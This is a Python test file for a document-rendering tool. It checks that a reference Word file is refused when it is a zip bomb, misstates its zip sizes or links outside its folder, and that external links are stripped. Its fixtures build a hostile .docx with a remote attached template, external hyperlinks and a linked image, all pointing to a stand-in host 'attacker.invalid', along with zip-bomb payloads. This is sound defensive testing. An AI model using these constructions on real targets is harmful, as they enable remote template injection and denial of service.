"""A reference document from a pull request is read safely: within size limits, from its
own folder, and nothing in it reaches outside the Word files made with it."""

from __future__ import annotations

import io
import os
import re
import shutil
import struct
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml.ns import qn
from docx.oxml.parser import OxmlElement, parse_xml
from docx.text.paragraph import Paragraph
from docx_helpers import FIXTURES, house, render_docx, word
from typer.testing import CliRunner

from conftest import FRAMEWORKS, TODAY
from rmf.cli.app import app
from rmf.core.errors import UsageError
from rmf.render.docx import reference
from rmf.render.docx.reference import PARTS_LIMIT, read_reference

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
MiB = 1024 * 1024
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
runner = CliRunner()


def rmf(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["render", "--today", TODAY, "-f", "docx", *args])
    return result.exit_code, result.stderr


def rezipped(source: Path, target: Path, extra: dict[str, bytes]) -> Path:
    """The reference at `source` with more parts (as a zip tool would pack them)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            new.writestr(info, old.read(info))
        for name, data in extra.items():
            new.writestr(name, data, zipfile.ZIP_DEFLATED)
    return target


@pytest.fixture
def client(tmp_path: Path) -> Path:
    folder = tmp_path / "client"
    folder.mkdir()
    shutil.copy(FIXTURES / "derived.yaml", folder / "framework.yaml")
    return folder


# --- limits ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        ({"word/media/bomb.bin": b"\0" * (33 * MiB)}, "unpacks to 34,603,008 bytes, more than"),
        ({"word/media/dense.bin": b"\0" * (2 * MiB)}, "is packed more than 100:1"),
        ({f"word/media/{n}.bin": os.urandom(1024) for n in range(PARTS_LIMIT + 1)}, "parts, more"),
    ],
    ids=["part-too-large", "ratio", "too-many-parts"],
)
def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    tmp_path: Path, extra: dict[str, bytes], reason: str
) -> None:
    bomb = rezipped(house(tmp_path / "house.docx"), tmp_path / "bomb.docx", extra)
    assert bomb.stat().st_size < 2 * MiB
    with pytest.raises(UsageError, match=f"bomb.docx: reference document refused: .*{reason}"):
        read_reference(bomb)


def test_parts_that_unpack_to_too_much_together_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reference, "TOTAL_LIMIT", 2 * MiB)
    # each part under its own limit, random so that none is packed densely
    parts = {f"word/media/{n}.bin": os.urandom(MiB) for n in range(3)}
    big = rezipped(house(tmp_path / "house.docx"), tmp_path / "big.docx", parts)
    with pytest.raises(UsageError, match="unpack to more than 2 MiB"):
        read_reference(big)


def lying(data: bytes, name: bytes, size: int) -> bytes:
    """The zip with `name`'s unpacked size stated as `size`, in both headers."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = out.find(signature)
        while at >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if out[name_at : name_at + len(name)] == name:
                out[at + offset : at + offset + 4] = struct.pack("<I", size)
            at = out.find(signature, at + 4)
    return bytes(out)


def test_a_zip_directory_that_lies_about_a_size_is_read_no_further(tmp_path: Path) -> None:
    source = rezipped(
        house(tmp_path / "house.docx"),
        tmp_path / "full.docx",
        {"word/media/big.bin": b"\0" * (40 * MiB)},
    )
    liar = tmp_path / "liar.docx"
    liar.write_bytes(lying(source.read_bytes(), b"word/media/big.bin", 1000))
    with pytest.raises(UsageError, match=r"liar\.docx: "):
        read_reference(liar)


def test_a_zip_bomb_on_the_command_line_exits_2_naming_file_and_reason(
    client: Path, tmp_path: Path
) -> None:
    rezipped(
        house(tmp_path / "house.docx"),
        client / "reference.docx",
        {"word/media/bomb.bin": b"\0" * (33 * MiB)},
    )
    out = tmp_path / "out"
    code, err = rmf(str(client), "-o", str(out))
    assert code == 2
    assert "reference.docx: reference document refused: part word/media/bomb.bin" in err
    assert "Traceback" not in err and not out.exists()


# --- where it may come from -----------------------------------------------------------


def test_a_reference_linking_outside_the_framework_folder_is_refused(
    client: Path, tmp_path: Path
) -> None:
    (client / "reference.docx").symlink_to(house(tmp_path / "elsewhere.docx"))
    code, err = rmf(str(client), "-o", str(tmp_path / "out"))
    assert code == 2
    assert "reference.docx: reference document refused: leads outside" in err


def test_a_reference_linking_within_the_framework_folder_is_used(
    client: Path, tmp_path: Path
) -> None:
    house(client / "letterhead.docx")
    (client / "reference.docx").symlink_to("letterhead.docx")
    code, err = rmf(str(client), "-o", str(tmp_path / "out"))
    assert code == 0, err
    header = word((tmp_path / "out" / "index.docx").read_bytes()).sections[-1].header
    assert "ACME WATER" in header.paragraphs[0].text


@pytest.mark.parametrize("kind", ["folder", "pipe", "dangling link"])
def test_a_reference_that_is_not_a_regular_file_is_refused(
    client: Path, tmp_path: Path, kind: str
) -> None:
    reference = client / "reference.docx"
    if kind == "folder":
        reference.mkdir()
    elif kind == "pipe":
        os.mkfifo(reference)
    else:
        reference.symlink_to("missing.docx")
    code, err = rmf(str(client), "-o", str(tmp_path / "out"))
    assert code == 2
    assert "reference.docx: reference document refused: " in err


# --- no way out -----------------------------------------------------------------------


def hyperlink(paragraph: Paragraph, url: str, text: str) -> None:
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), paragraph.part.relate_to(url, RT.HYPERLINK, is_external=True))
    run = OxmlElement("w:r")
    shown = OxmlElement("w:t")
    shown.text = text
    run.append(shown)
    link.append(run)
    paragraph._p.append(link)


LINKED_PICTURE = (
    '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
    'drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/>'
    '<wp:docPr id="9" name="logo"/><a:graphic xmlns:a="http://schemas.openxmlformats'
    '.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
    'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
    'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="logo"/><pic:cNvPicPr/>'
    '</pic:nvPicPr><pic:blipFill><a:blip r:link="{rid}"/></pic:blipFill><pic:spPr/>'
    "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)


def reaching_out(path: Path) -> Path:
    """A letterhead with a template attached from a web server, a hyperlink in its
    footer and its body, a picture linked rather than embedded in its header, and a
    web address as the base of relative hyperlinks."""
    document = docx.Document()
    settings = document.part._settings_part
    template = OxmlElement("w:attachedTemplate")
    rid = settings.relate_to("http://attacker.invalid/x.dotm", ATTACHED_TEMPLATE, True)
    template.set(qn("r:id"), rid)
    settings.element.insert(1, template)
    footer = document.sections[0].footer.paragraphs[0]
    footer.add_run("ACME confidential · ")
    hyperlink(footer, "http://attacker.invalid/footer", "acme.example")
    header = document.sections[0].header.paragraphs[0]
    header.add_run("ACME WATER")
    logo = header.part.relate_to("http://attacker.invalid/logo.png", RT.IMAGE, is_external=True)
    header._p.append(parse_xml(LINKED_PICTURE.format(rid=logo)))
    hyperlink(document.add_paragraph("Body "), "http://attacker.invalid/body", "link")
    document.save(str(path))
    # where Word would resolve the links to the sibling documents
    with zipfile.ZipFile(path) as source:
        parts = {i.filename: source.read(i) for i in source.infolist()}
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        b"</Properties>", b"<HyperlinkBase>http://attacker.invalid/</HyperlinkBase></Properties>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


@pytest.fixture(scope="module")
def edmonton_reaching_out(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    reference = reaching_out(tmp_path_factory.mktemp("house") / "house.docx")
    assert b'TargetMode="External"' in zipfile.ZipFile(reference).read(
        "word/_rels/settings.xml.rels"
    )
    return render_docx(FRAMEWORKS / "edmonton", reference=reference)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {i.filename: archive.read(i) for i in archive.infolist()}


def test_no_word_file_keeps_a_relationship_of_the_reference_to_the_outside(
    edmonton_reaching_out: dict[str, bytes],
) -> None:
    documents = {p: d for p, d in edmonton_reaching_out.items() if p.endswith(".docx")}
    assert len(documents) > 40
    for path, data in documents.items():
        parts = parts_of(data)
        for name, body in parts.items():
            assert b"attacker.invalid" not in body, (path, name)
            if name != "word/_rels/document.xml.rels":  # the document's own links
                assert b'TargetMode="External"' not in body, (path, name)
        # what remains outside is a link to a sibling document, opened only when clicked
        targets = re.findall(
            rb'Target="([^"]*)" TargetMode="External"', parts["word/_rels/document.xml.rels"]
        )
        assert all(t.endswith(b".docx") and b":" not in t for t in targets), (path, targets)
        assert b"attachedTemplate" not in parts["word/settings.xml"]


def test_the_reference_still_gives_its_header_and_footer_text(
    edmonton_reaching_out: dict[str, bytes],
) -> None:
    document = word(edmonton_reaching_out["index.docx"])
    section = document.sections[0]
    assert "ACME WATER" in section.header.paragraphs[0].text
    footer = section.footer.paragraphs[0].text
    assert "ACME confidential · acme.example" in footer  # the link's text stays


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_an_office_suite_opens_a_document_made_with_it(
    edmonton_reaching_out: dict[str, bytes], tmp_path: Path
) -> None:
    assert SOFFICE is not None
    source = tmp_path / "index.docx"
    source.write_bytes(edmonton_reaching_out["index.docx"])
    result = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=240,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "index.pdf").read_bytes().startswith(b"%PDF")
